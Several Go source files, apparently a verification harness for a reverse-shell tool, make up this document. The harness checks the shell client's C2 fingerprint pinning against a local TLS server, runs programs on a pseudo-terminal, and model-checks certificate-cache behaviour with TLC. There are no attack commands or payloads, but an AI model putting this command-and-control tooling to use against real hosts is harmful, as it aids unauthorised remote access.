	h := sha256.Sum256(x.RawSubjectPublicKeyInfo)
	return h[:]
}

// Server is one HTTPS server.
type Server struct {
	Cert    tls.Certificate
	URL     string
	Hits    atomic.Int64 // requests that reached the handler
	Accepts atomic.Int64 // TCP connections accepted
	Body    atomic.Int64 // request body bytes seen
	srv     *http.Server
	l       net.Listener
}

type countListener struct {
	net.Listener
	s *Server
}

func (c countListener) Accept() (net.Conn, error) {
	conn, err := c.Listener.Accept()
	if err == nil {
		c.s.Accepts.Add(1)
	}
	return conn, err
}

// NewServer starts a server presenting cert.
func NewServer(cert tls.Certificate) (*Server, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	s := &Server{Cert: cert, l: l}
	s.URL = "https://" + l.Addr().String() + simpleshell.IOPath
	s.srv = &http.Server{
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}},
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			s.Hits.Add(1)
			n, _ := io.Copy(io.Discard, r.Body)
			s.Body.Add(n)
			w.WriteHeader(200)
			io.WriteString(w, "bye\n")
		}),
		ErrorLog: nil,
	}
	s.srv.ErrorLog = discardLogger
	go s.srv.ServeTLS(countListener{l, s}, "", "")
	return s, nil
}

// Close stops the server.
func (s *Server) Close() { s.srv.Close() }

// stubShell is a Shell whose output is a short fixed text.
type stubShell struct {
	out io.ReadCloser
	in  io.Reader
}

func newStubShell() *stubShell {
	return &stubShell{out: io.NopCloser(strings.NewReader("shell output\n"))}
}
func (s *stubShell) SetInput(in io.Reader) { s.in = in }
func (s *stubShell) Output() io.ReadCloser { return s.out }
func (s *stubShell) String() string        { return "stub" }
func (s *stubShell) Go(context.Context) error {
	if s.in != nil {
		io.Copy(io.Discard, s.in)
	}
	return nil
}

// Fingerprint spells the abstract fingerprint kind for a server.
func Fingerprint(kind string, srv tls.Certificate, rng *mrand.Rand) string {
	right := SPKI(srv, 0)
	b64 := func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
	switch kind {
	case "none":
		return ""
	case "leaf":
		return b64(right)
	case "leafpfx":
		return "sha256//" + b64(right)
	case "second":
		if len(srv.Certificate) > 1 {
			if rng.Intn(2) == 0 {
				return "sha256//" + b64(SPKI(srv, 1))
			}
			return b64(SPKI(srv, 1))
		}
		return b64(SPKI(SelfSigned(), 0)) // no second certificate: some other key
	case "other":
		o := append([]byte(nil), right...)
		switch rng.Intn(4) {
		case 0:
			o = SPKI(SelfSigned(), 0)
		case 1:
			o[31] ^= 1
		case 2:
			for i := 16; i < 32; i++ {
				o[i] = 0
			}
		case 3:
			o[0] ^= 0x80
		}
		if rng.Intn(2) == 0 {
			return "sha256//" + b64(o)
		}
		return b64(o)
	case "short":
		return b64(right[:31])
	case "long":
		return b64(append(append([]byte(nil), right...), 0))
	case "nonb64":
		return []string{"not base64 at all!!", "*" + b64(right)[1:], base64.URLEncoding.EncodeToString([]byte{0xfb, 0xff, 0xfe}) + b64(right)}[rng.Intn(3)]
	case "badpad":
		return strings.TrimRight(b64(right), "=")
	}
	return ""
}

// Observation is what one call did.
type Observation struct {
	Outcome string // accepted | refused-tls | refused-early
	Err     error
	Problem string // something else that contradicts the statement
}

// Call runs simpleshell.Go once.
func Call(srv *Server, fp string) Observation {
	h0, a0 := srv.Hits.Load(), srv.Accepts.Load()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	err := simpleshell.Go(ctx, simpleshell.ConnConfig{C2: srv.URL, Fingerprint: fp}, newStubShell())
	// the server counts asynchronously; give it a moment when the client reports success
	if err == nil {
		for i := 0; i < 200 && srv.Hits.Load() == h0; i++ {
			time.Sleep(time.Millisecond)
		}
	}
	hit := srv.Hits.Load() > h0
	acc := srv.Accepts.Load() > a0
	o := Observation{Err: err}
	switch {
	case hit:
		o.Outcome = "accepted"
		if err != nil {
			o.Problem = fmt.Sprintf("the request reached the server although Go reports %v", err)
		}
	case acc:
		o.Outcome = "refused-tls"
	default:
		o.Outcome = "refused-early"
	}
	if !hit && err == nil {
		o.Problem = "Go reports success although no request reached the server"
	}
	return o
}

// Globals captures the process-wide HTTP defaults.
type Globals struct {
	ClientTransport  http.RoundTripper
	DefaultTransport http.RoundTripper
	TLSConfig        *tls.Config
	Client           *http.Client
}

// ReadGlobals reads the process-wide HTTP defaults.
func ReadGlobals() Globals {
	g := Globals{ClientTransport: http.DefaultClient.Transport, DefaultTransport: http.DefaultTransport, Client: http.DefaultClient}
	if t, ok := http.DefaultTransport.(*http.Transport); ok {
		g.TLSConfig = t.TLSClientConfig
	}
	return g
}

// Same reports whether nothing changed.
func (g Globals) Same(o Globals) bool {
	// net/http itself gives the default transport a TLS configuration on first use
	// (HTTP/2 set-up), so configurations are compared by what matters: verification.
	lax := func(c *tls.Config) bool { return c != nil && (c.InsecureSkipVerify || c.VerifyConnection != nil || c.VerifyPeerCertificate != nil) }
	return g.ClientTransport == o.ClientTransport && g.DefaultTransport == o.DefaultTransport && lax(g.TLSConfig) == lax(o.TLSConfig) && g.Client == o.Client
}

var mu sync.Mutex

var discardLogger = log.New(io.Discard, "", 0)
