// Package ptyx runs a program with a pseudo-terminal as its controlling
// terminal (pure Go, x/sys ioctls) and collects what it prints, with times.
package ptyx

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"regexp"
	"sync"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Chunk is a piece of terminal output with its arrival time.
type Chunk struct {
	At   time.Duration // since Start
	Data []byte
}

// Proc is a program running on a pty (or detached from any terminal).
type Proc struct {
	Cmd    *exec.Cmd
	Master *os.File
	T0     time.Time
	// Termios0 is the terminal's mode before the program started.
	Termios0 *unix.Termios

	mu     sync.Mutex
	buf    bytes.Buffer
	chunks []Chunk
	stderr bytes.Buffer
	stdout bytes.Buffer
	done   chan struct{}
	werr   error
	rdDone chan struct{}
	// slave is kept open by the harness until the program's last output has been read: when the last
	// descriptor of the slave side is closed the kernel may throw away what the master has not read yet
	// (a message written just before exit would be lost now and then).
	slave     *os.File
	slaveOnce sync.Once
}

// releaseSlave closes the harness's own descriptor of the slave side once the output has settled.
func (p *Proc) releaseSlave() {
	p.slaveOnce.Do(func() {
		if p.slave == nil {
			return
		}
		// wait until nothing new has arrived for a little while
		last, stable := -1, 0
		for i := 0; i < 100 && stable < 3; i++ {
			p.mu.Lock()
			n := p.buf.Len()
			p.mu.Unlock()
			if n == last {
				stable++
			} else {
				stable, last = 0, n
			}
			time.Sleep(4 * time.Millisecond)
		}
		p.slave.Close()
	})
}

// OpenPty returns the master side and the slave's path, with a window size set.
func OpenPty() (*os.File, string, error) {
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return nil, "", err
	}
	if err := unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		m.Close()
		return nil, "", fmt.Errorf("unlockpt: %w", err)
	}
	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
	if err != nil {
		m.Close()
		return nil, "", fmt.Errorf("ptsname: %w", err)
	}
	if err := unix.IoctlSetWinsize(int(m.Fd()), unix.TIOCSWINSZ, &unix.Winsize{Row: 50, Col: 250}); err != nil {
		m.Close()
		return nil, "", fmt.Errorf("winsize: %w", err)
	}
	return m, fmt.Sprintf("/dev/pts/%d", n), nil
}

// Opts configures Start.
type Opts struct {
	NoTTY      bool     // run in a new session without any controlling terminal
	Env        []string // extra environment
	Dir        string
	Stdin      []byte     // only with NoTTY
	ExtraFiles []*os.File // become fd 3, 4, ... of the program
}

// Start runs bin with args.
func Start(bin string, args []string, o Opts) (*Proc, error) {
	p := &Proc{done: make(chan struct{}), rdDone: make(chan struct{}), T0: time.Now()}
	cmd := exec.Command(bin, args...)
	cmd.Dir = o.Dir
	cmd.Env = append(os.Environ(), o.Env...)
	cmd.ExtraFiles = o.ExtraFiles
	p.Cmd = cmd
	if o.NoTTY {
		cmd.Stdin = bytes.NewReader(o.Stdin)
		cmd.Stdout = &lockedWriter{p: p, b: &p.stdout}
		cmd.Stderr = &lockedWriter{p: p, b: &p.stderr}
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		close(p.rdDone)
		if err := cmd.Start(); err != nil {
			return nil, err
		}
	} else {
		m, sp, err := OpenPty()
		if err != nil {
			return nil, err
		}
		s, err := os.OpenFile(sp, os.O_RDWR|syscall.O_NOCTTY, 0)
		if err != nil {
			m.Close()
			return nil, err
		}
		p.Master = m
		p.Termios0, _ = unix.IoctlGetTermios(int(s.Fd()), unix.TCGETS)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = s, s, s
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
		if err := cmd.Start(); err != nil {
			s.Close()
			m.Close()
			return nil, err
		}
		p.slave = s
		go func() {
			defer close(p.rdDone)
			b := make([]byte, 65536)
			for {
				n, err := m.Read(b)
				if n > 0 {
					p.mu.Lock()
					p.buf.Write(b[:n])
					p.chunks = append(p.chunks, Chunk{At: time.Since(p.T0), Data: append([]byte(nil), b[:n]...)})
					p.mu.Unlock()
				}
				if err != nil {
					return
				}
			}
		}()
	}
	go func() {
		p.werr = cmd.Wait()
		close(p.done)
	}()
	return p, nil
}

type lockedWriter struct {
	p *Proc
	b *bytes.Buffer
}

func (w *lockedWriter) Write(b []byte) (int, error) {
	w.p.mu.Lock()
	defer w.p.mu.Unlock()
	return w.b.Write(b)
}

// Output returns everything printed on the terminal so far.
func (p *Proc) Output() []byte {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]byte(nil), p.buf.Bytes()...)
}

// Stderr returns what was written to stderr (NoTTY only).
func (p *Proc) Stderr() []byte {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]byte(nil), p.stderr.Bytes()...)
}

// Stdout returns what was written to stdout (NoTTY only).
func (p *Proc) Stdout() []byte {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]byte(nil), p.stdout.Bytes()...)
}

// Chunks returns the timed output.
func (p *Proc) Chunks() []Chunk {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]Chunk(nil), p.chunks...)
}

// WaitFor waits until the terminal output (from offset from) matches re.
func (p *Proc) WaitFor(re *regexp.Regexp, from int, d time.Duration) ([]byte, bool) {
	dl := time.Now().Add(d)
	for {
		out := p.Output()
		if from <= len(out) {
			if m := re.Find(out[from:]); m != nil {
				return m, true
			}
		}
		select {
		case <-p.done:
			// one last look after the reader has drained
			select {
			case <-p.rdDone:
			case <-time.After(200 * time.Millisecond):
			}
			out = p.Output()
			if from <= len(out) {
				if m := re.Find(out[from:]); m != nil {
					return m, true
				}
			}
			return nil, false
		default:
		}
		if time.Now().After(dl) {
			return nil, false
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// Type writes to the terminal as if typed.
func (p *Proc) Type(b []byte) error {
	if p.Master == nil {
		return fmt.Errorf("no terminal")
	}
	_, err := p.Master.Write(b)
	return err
}

// Termios returns the terminal's current mode.
func (p *Proc) Termios() (*unix.Termios, error) {
	if p.Master == nil {
		return nil, fmt.Errorf("no terminal")
	}
	return unix.IoctlGetTermios(int(p.Master.Fd()), unix.TCGETS)
}

// Exited reports whether the program has exited, and its status.
func (p *Proc) Exited() (bool, int) {
	select {
	case <-p.done:
		if p.Cmd.ProcessState != nil {
			if ws, ok := p.Cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
				return true, 128 + int(ws.Signal())
			}
			return true, p.Cmd.ProcessState.ExitCode()
		}
		return true, -1
	default:
		return false, 0
	}
}

// WaitExit waits for the program to exit.
func (p *Proc) WaitExit(d time.Duration) (bool, int) {
	select {
	case <-p.done:
		p.releaseSlave()
		select {
		case <-p.rdDone:
		case <-time.After(300 * time.Millisecond):
		}
		_, st := p.Exited()
		return true, st
	case <-time.After(d):
		return false, 0
	}
}

// Kill terminates the program and releases the terminal.
func (p *Proc) Kill() {
	if p.Cmd.Process != nil {
		syscall.Kill(-p.Cmd.Process.Pid, syscall.SIGKILL)
		p.Cmd.Process.Kill()
	}
	select {
	case <-p.done:
	case <-time.After(2 * time.Second):
	}
	p.slaveOnce.Do(func() {
		if p.slave != nil {
			p.slave.Close()
		}
	})
	if p.Master != nil {
		p.Master.Close()
	}
}

// Close releases the terminal of an exited program.
func (p *Proc) Close() {
	if ex, _ := p.Exited(); !ex {
		p.Kill()
		return
	}
	p.slaveOnce.Do(func() {
		if p.slave != nil {
			p.slave.Close()
		}
	})
	if p.Master != nil {
		p.Master.Close()
	}
}
