// Package tlcrun runs TLC on a specification from /verif/spec in a scratch
// copy and parses what it prints.
package tlcrun

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
)

// Opts configures one TLC run.
type Opts struct {
	Module   string   // e.g. "BrokerCtl"
	Config   string   // e.g. "BrokerCtl_q" (without .cfg)
	Workers  int      // default 8
	Timeout  time.Duration
	Extra    []string // extra TLC arguments (e.g. -simulate ...)
	Files    map[string][]byte // extra files to place next to the spec (traces, generated cfgs)
	OnTagged func(tag, payload string) // called for each line of the form <<"TAG", "payload">>
	JavaOpts string
}

// Result is what TLC reported.
type Result struct {
	Generated  int
	Distinct   int
	Depth      int
	OK         bool   // "Model checking completed. No error has been found." or simulation ended without error
	Violated   string // name of a violated invariant / property, if any
	TimedOut   bool
	Tail       []string // last lines of non-tagged output
	PostFailed bool
	Wall       time.Duration
	Dir        string // scratch directory (removed unless KeepDir)
}

var (
	reStates   = regexp.MustCompile(`^([0-9,]+) states generated, ([0-9,]+) distinct states found`)
	reDepth    = regexp.MustCompile(`^The depth of the complete state graph search is ([0-9]+)`)
	reInv      = regexp.MustCompile(`^Error: Invariant ([A-Za-z0-9_]+) is violated`)
	reProp     = regexp.MustCompile(`^Error: (?:Action|Temporal) propert(?:y|ies) ([A-Za-z0-9_ ]*)(?:is|was|were) violated`)
	reTagged   = regexp.MustCompile(`^<<"([A-Z]+)", (".*")>>$`)
	reProgress = regexp.MustCompile(`^Progress\(`)
)

func atoi(s string) int {
	n, _ := strconv.Atoi(strings.ReplaceAll(s, ",", ""))
	return n
}

// Run runs TLC.
func Run(o Opts) (*Result, error) {
	if o.Workers == 0 {
		o.Workers = 8
	}
	if o.Timeout == 0 {
		o.Timeout = 10 * time.Minute
	}
	dir, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "tlc-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	specs, _ := filepath.Glob(filepath.Join(ev.Root(), "spec", "*"))
	for _, f := range specs {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		os.WriteFile(filepath.Join(dir, filepath.Base(f)), b, 0o644)
	}
	for n, b := range o.Files {
		if err := os.WriteFile(filepath.Join(dir, n), b, 0o644); err != nil {
			return nil, err
		}
	}
	args := []string{"-workers", strconv.Itoa(o.Workers), "-metadir", filepath.Join(dir, "md"),
		"-config", o.Config + ".cfg"}
	args = append(args, o.Extra...)
	args = append(args, o.Module+".tla")
	ctx, cancel := context.WithTimeout(context.Background(), o.Timeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, "tlc", args...)
	const jar = "/opt/veriftools/tla/tla2tools.jar"
	if _, err := os.Stat(jar); err == nil && strings.Contains(o.JavaOpts, "-Xss") {
		// the stack of the main thread (initial states, their invariants) is sized by the launcher from
		// its command line only, not from JAVA_TOOL_OPTIONS: call java the way the tlc wrapper does
		jargs := append(strings.Fields(o.JavaOpts), "-XX:+UseParallelGC", "-cp", jar+":/opt/veriftools/tla/CommunityModules-deps.jar", "tlc2.TLC")
		cmd = exec.CommandContext(ctx, "java", append(jargs, args...)...)
	}
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	cmd.Env = append(os.Environ(), "JAVA_TOOL_OPTIONS="+o.JavaOpts)
	pr, pw := io.Pipe()
	cmd.Stdout = pw
	cmd.Stderr = pw
	res := &Result{}
	t0 := time.Now()
	if err := cmd.Start(); err != nil {
		return nil, fmt.Errorf("starting tlc: %w", err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		sc := bufio.NewScanner(pr)
		sc.Buffer(make([]byte, 1<<20), 1<<26)
		for sc.Scan() {
			line := sc.Text()
			if strings.HasPrefix(line, `<<"`) {
				if m := reTagged.FindStringSubmatch(line); m != nil {
					if o.OnTagged != nil {
						if p, err := strconv.Unquote(m[2]); err == nil {
							o.OnTagged(m[1], p)
						}
					}
					continue
				}
			}
			if m := reStates.FindStringSubmatch(line); m != nil {
				res.Generated, res.Distinct = atoi(m[1]), atoi(m[2])
			} else if m := reDepth.FindStringSubmatch(line); m != nil {
				res.Depth = atoi(m[1])
			} else if m := reInv.FindStringSubmatch(line); m != nil {
				res.Violated = m[1]
			} else if m := reProp.FindStringSubmatch(line); m != nil {
				res.Violated = strings.TrimSpace(m[1])
				if res.Violated == "" {
					res.Violated = "temporal"
				}
			} else if strings.Contains(line, "No error has been found") {
				res.OK = true
			} else if strings.Contains(line, "Temporal properties were violated") {
				res.Violated = "temporal"
			} else if strings.Contains(line, "Deadlock reached") {
				res.Violated = "deadlock"
			} else if strings.Contains(line, "Postcondition") && strings.Contains(line, "violated") {
				res.PostFailed = true
			}
			if reProgress.MatchString(line) {
				continue
			}
			res.Tail = append(res.Tail, line)
			if len(res.Tail) > 60 {
				res.Tail = res.Tail[len(res.Tail)-60:]
			}
		}
		io.Copy(io.Discard, pr)
	}()
	werr := cmd.Wait()
	pw.Close()
	<-done
	res.Wall = time.Since(t0)
	if ctx.Err() != nil {
		res.TimedOut = true
		return res, nil
	}
	if werr != nil && res.Violated == "" && !res.OK && !res.PostFailed {
		// Simulation mode ends with exit status 0 normally; any other failure is an infrastructure problem.
		return res, fmt.Errorf("tlc failed: %v\n%s", werr, strings.Join(res.Tail, "\n"))
	}
	return res, nil
}
