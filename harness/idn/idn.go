// Package idn replays behaviours of Identity.tla on real files through
// sstls.Listen and real TLS handshakes.
package idn

import (
	"bytes"
	"crypto"
	crand "crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/rand"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
)

// Act is an Identity action label.
type Act struct {
	N  string `json:"n"`
	C  bool   `json:"c"`
	R  string `json:"r"`
	Cl string `json:"cl"`
}

// State is the View tuple of Identity.tla.
type State struct {
	Fst    string
	Fkey   int
	Fcls   string
	FileID int
	Run    string
	Cached bool
	Served int
	Shown  int
	Nkeys  int
}

// ParseState decodes the View tuple.
func ParseState(raw json.RawMessage) (State, error) {
	var a []any
	if err := json.Unmarshal(raw, &a); err != nil || len(a) < 10 {
		return State{}, fmt.Errorf("bad state %s: %v", raw, err)
	}
	f := func(i int) int { v, _ := a[i].(float64); return int(v) }
	s := func(i int) string { v, _ := a[i].(string); return v }
	b, _ := a[5].(bool)
	return State{Fst: s(0), Fkey: f(1), Fcls: s(2), FileID: f(3), Run: s(4), Cached: b, Served: f(6), Shown: f(7), Nkeys: f(8)}, nil
}

// Div is a divergence from the specification.
type Div struct {
	Prop, Aspect, Desc string
	Step               int
}

// SPKIHash computes base64(sha256(SubjectPublicKeyInfo)) independently of sstls.
func SPKIHash(c *x509.Certificate) string {
	h := sha256.Sum256(c.RawSubjectPublicKeyInfo)
	return base64.StdEncoding.EncodeToString(h[:])
}

// Serve accepts connections on l and completes their handshakes until l is closed.
func Serve(l net.Listener) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			if tc, ok := c.(*tls.Conn); ok {
				tc.SetDeadline(time.Now().Add(5 * time.Second))
				tc.Handshake()
				// give the client the time to finish its side
				buf := make([]byte, 1)
				tc.Read(buf)
			}
		}()
	}
}

// Handshake connects to addr and returns the leaf presented.
func Handshake(addr string) (*x509.Certificate, error) {
	c, err := tls.DialWithDialer(&netDialer, "tcp", addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return nil, err
	}
	defer c.Close()
	pcs := c.ConnectionState().PeerCertificates
	if len(pcs) == 0 {
		return nil, fmt.Errorf("no certificate presented")
	}
	return pcs[0], nil
}

// Regions describes the layout of a complete cache file.
type Regions struct {
	Len                                        int
	CommentEnd, CertHdrEnd, CertEnd, KeyHdrEnd int // exclusive end offsets
}

// Layout finds the regions of a cache file.
func Layout(b []byte) (Regions, error) {
	r := Regions{Len: len(b)}
	i := bytes.Index(b, []byte("-- cert --\n"))
	j := bytes.Index(b, []byte("-- key --\n"))
	if i < 0 || j < 0 || j < i {
		return r, fmt.Errorf("unexpected cache file layout")
	}
	r.CommentEnd = i
	r.CertHdrEnd = i + len("-- cert --\n")
	r.CertEnd = j
	r.KeyHdrEnd = j + len("-- key --\n")
	return r, nil
}

// CutRange returns the prefix lengths [lo,hi] belonging to a cut class.
func (r Regions) CutRange(cl string) (int, int) {
	switch cl {
	case "empty":
		return 0, 0
	case "comment":
		return 1, r.CommentEnd
	case "certhdr":
		return r.CommentEnd + 1, r.CertHdrEnd
	case "certbody":
		return r.CertHdrEnd + 1, r.CertEnd - 1
	case "between":
		return r.CertEnd, r.CertEnd
	case "keyhdr":
		return r.CertEnd + 1, r.KeyHdrEnd
	case "keybody":
		return r.KeyHdrEnd + 1, r.Len - 2
	case "nonl":
		return r.Len - 1, r.Len - 1
	}
	return 0, 0
}

// CutClass is the inverse of CutRange.
func (r Regions) CutClass(n int) string {
	for _, cl := range []string{"empty", "comment", "certhdr", "certbody", "between", "keyhdr", "keybody", "nonl"} {
		lo, hi := r.CutRange(cl)
		if n >= lo && n <= hi {
			return cl
		}
	}
	return ""
}

// DamageRange returns the byte offsets [lo,hi) of a damage class.
func (r Regions) DamageRange(b []byte, cl string) (int, int) {
	pemBody := func(lo, hi int) (int, int) { // inside the base64 lines of the PEM block
		s := bytes.IndexByte(b[lo:hi], '\n') + lo + 1
		e := bytes.LastIndex(b[lo:hi-1], []byte("\n-----END")) + lo
		return s, e
	}
	switch cl {
	case "comment":
		return 0, r.CommentEnd
	case "certmarker":
		return r.CommentEnd, r.CertHdrEnd
	case "certbody":
		return pemBody(r.CertHdrEnd, r.CertEnd)
	case "keymarker":
		return r.CertEnd, r.KeyHdrEnd
	case "keybody":
		return pemBody(r.KeyHdrEnd, r.Len)
	case "armour":
		// the -----BEGIN / -----END lines of the certificate block
		return r.CertHdrEnd, r.CertHdrEnd + len("-----BEGIN CERTIFICATE-----")
	}
	return 0, 0
}

// World is one cache location plus the running listener.
type World struct {
	Dir      string // scratch root
	CertFile string
	Depth    int
	rng      *rand.Rand
	l        *sstls.Listener
	keys     map[int]string // spec key -> fingerprint
	seen     map[string]bool
	made     []string // directories that did not exist before the first save
}

// NewWorld makes a scratch cache location with depth missing directories.
func NewWorld(scratch string, depth int, seed int64) (*World, error) {
	d, err := os.MkdirTemp(scratch, "idn-")
	if err != nil {
		return nil, err
	}
	w := &World{Dir: d, Depth: depth, rng: rand.New(rand.NewSource(seed)), keys: map[int]string{}, seen: map[string]bool{}}
	p := d
	for i := 0; i < depth; i++ {
		p = filepath.Join(p, fmt.Sprintf("d%d", i))
		w.made = append(w.made, p)
	}
	w.CertFile = filepath.Join(p, "cert.txtar")
	return w, nil
}

// Close stops the listener and removes the scratch directory.
func (w *World) Close() {
	if w.l != nil {
		w.l.Close()
		w.l = nil
	}
	os.RemoveAll(w.Dir)
}

type fileStat struct {
	exists bool
	data   []byte
	mtime  time.Time
	ino    uint64
	mode   os.FileMode
}

func statFile(p string) fileStat {
	fi, err := os.Lstat(p)
	if err != nil {
		return fileStat{}
	}
	b, _ := os.ReadFile(p)
	var ino uint64
	if st, ok := fi.Sys().(*syscall.Stat_t); ok {
		ino = st.Ino
	}
	return fileStat{exists: true, data: b, mtime: fi.ModTime(), ino: ino, mode: fi.Mode()}
}

func (a fileStat) same(b fileStat) bool {
	return a.exists == b.exists && bytes.Equal(a.data, b.data) && a.mtime.Equal(b.mtime) && a.ino == b.ino && a.mode == b.mode
}

// FreshFile produces a complete cache file for a brand-new key in a scratch
// location and returns its bytes and the key's fingerprint.
func (w *World) FreshFile() ([]byte, string, error) {
	p := filepath.Join(w.Dir, fmt.Sprintf("scratch-%d", w.rng.Int63()), "c.txtar")
	l, err := sstls.Listen("tcp", "127.0.0.1:0", "", 0, p)
	if err != nil {
		return nil, "", err
	}
	defer l.Close()
	go Serve(l)
	leaf, err := Handshake(l.Addr().String())
	if err != nil {
		return nil, "", err
	}
	b, err := os.ReadFile(p)
	os.RemoveAll(filepath.Dir(p))
	return b, SPKIHash(leaf), err
}

// Place writes b as the cache file (creating directories as the program would).
func (w *World) Place(b []byte) error {
	if err := os.MkdirAll(filepath.Dir(w.CertFile), 0o700); err != nil {
		return err
	}
	w.made = nil // directories now exist by the harness's hand
	return os.WriteFile(w.CertFile, b, 0o600)
}

// Pin is one advertised fingerprint.
type Pin struct {
	Where string // where it was shown
	FP    string
	Addr  string // address it was shown with, if any
}

// Runner performs the runs of a history: in-process through sstls.Listen, or
// with the real binary on a pty.
type Runner interface {
	Start(w *World, cached bool) StartResult
	Stop(w *World) string                                // a problem description, or ""
	Advert(w *World, kind string) ([]Pin, string, error) // pins advertised by the action, the key served now
}

// InProc is the Runner that calls sstls.Listen directly.
type InProc struct{}

// Start implements Runner.
func (InProc) Start(w *World, cached bool) StartResult { return w.Start(cached) }

// Stop implements Runner.
func (InProc) Stop(w *World) string { w.Stop(); return "" }

// Advert implements Runner.
func (InProc) Advert(w *World, kind string) ([]Pin, string, error) {
	if w.l == nil {
		return nil, "", fmt.Errorf("not running")
	}
	leaf, err := Handshake(w.l.Addr().String())
	if err != nil {
		return nil, "", err
	}
	return []Pin{{Where: "Listener.Fingerprint", FP: w.l.Fingerprint}}, SPKIHash(leaf), nil
}

// RNG exposes the world's seeded generator.
func (w *World) RNG() *rand.Rand { return w.rng }

// Seen records that a fingerprint has been observed and reports whether it was known.
func (w *World) Seen(fp string) bool {
	k := w.seen[fp]
	w.seen[fp] = true
	return k
}

// Made returns the directories that did not exist before the first save and forgets them.
func (w *World) Made() []string {
	m := w.made
	return m
}

// ForgetMade notes that the directories now exist.
func (w *World) ForgetMade() { w.made = nil }

// StatFile describes the cache file.
func StatFile(p string) FileStat { return statFile(p) }

// FileStat is exported for runners.
type FileStat = fileStat

// Exists reports whether the file was there.
func (f fileStat) Exists() bool { return f.exists }

// Mode returns the file's mode.
func (f fileStat) Mode() os.FileMode { return f.mode }

// StartResult is what one real run did.
type StartResult struct {
	Pins        []Pin
	Outcome     string // generated | reused | failed
	FP          string // fingerprint served (independently computed)
	Advertised  string // Listener.Fingerprint
	Err         error
	Before      fileStat
	After       fileStat
	ModeProblem string
	AddrProblem string // a printed one-liner names the wrong port
	CurlProblem string // real curl --pinnedpubkey disagrees
}

// Start performs one run: sstls.Listen with or without the cache + a handshake.
func (w *World) Start(cached bool) StartResult {
	if w.l != nil {
		w.l.Close()
		w.l = nil
	}
	var res StartResult
	res.Before = statFile(w.CertFile)
	cf := ""
	if cached {
		cf = w.CertFile
	}
	made := w.made
	l, err := sstls.Listen("tcp", "127.0.0.1:0", "", 0, cf)
	res.After = statFile(w.CertFile)
	if err != nil {
		res.Outcome, res.Err = "failed", err
		return res
	}
	w.l = &l
	go Serve(l)
	leaf, err := Handshake(l.Addr().String())
	if err != nil {
		// the run started (and advertises a fingerprint) but cannot complete a handshake: neither an
		// error nor a served key
		res.Outcome, res.Err = "unusable", fmt.Errorf("handshake: %w", err)
		res.Advertised = l.Fingerprint
		l.Close()
		w.l = nil
		return res
	}
	res.FP = SPKIHash(leaf)
	res.Advertised = l.Fingerprint
	res.Pins = []Pin{{Where: "Listener.Fingerprint", FP: l.Fingerprint}}
	if w.seen[res.FP] {
		res.Outcome = "reused"
	} else {
		res.Outcome = "generated"
		w.seen[res.FP] = true
	}
	// owner-only modes for what this run created
	if cached && !res.Before.exists && res.After.exists {
		if m := res.After.mode.Perm(); m&0o077 != 0 {
			res.ModeProblem = fmt.Sprintf("cache file created with mode %04o", m)
		}
		for _, d := range made {
			if fi, err := os.Stat(d); err == nil && fi.Mode().Perm()&0o077 != 0 {
				res.ModeProblem = fmt.Sprintf("directory %s created with mode %04o", strings.TrimPrefix(d, w.Dir), fi.Mode().Perm())
			}
		}
		w.made = nil
	}
	return res
}

// Stop ends the current run.
func (w *World) Stop() {
	if w.l != nil {
		w.l.Close()
		w.l = nil
	}
}

var netDialer = net.Dialer{Timeout: 5 * time.Second}

// ExpireCache replaces the certificate in a complete cache file by one for the same key pair whose
// validity ended an hour ago (what the passing of time does to the file's meaning).
func ExpireCache(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	reg, err := Layout(b)
	if err != nil {
		return err
	}
	certPEM, keyPEM := b[reg.CertHdrEnd:reg.CertEnd], b[reg.KeyHdrEnd:]
	cb, _ := pem.Decode(certPEM)
	kb, _ := pem.Decode(keyPEM)
	if cb == nil || kb == nil {
		return fmt.Errorf("cache file without PEM blocks")
	}
	old, err := x509.ParseCertificate(cb.Bytes)
	if err != nil {
		return err
	}
	key, err := x509.ParsePKCS8PrivateKey(kb.Bytes)
	if err != nil {
		return err
	}
	signer, ok := key.(crypto.Signer)
	if !ok {
		return fmt.Errorf("cached key cannot sign")
	}
	tmpl := *old
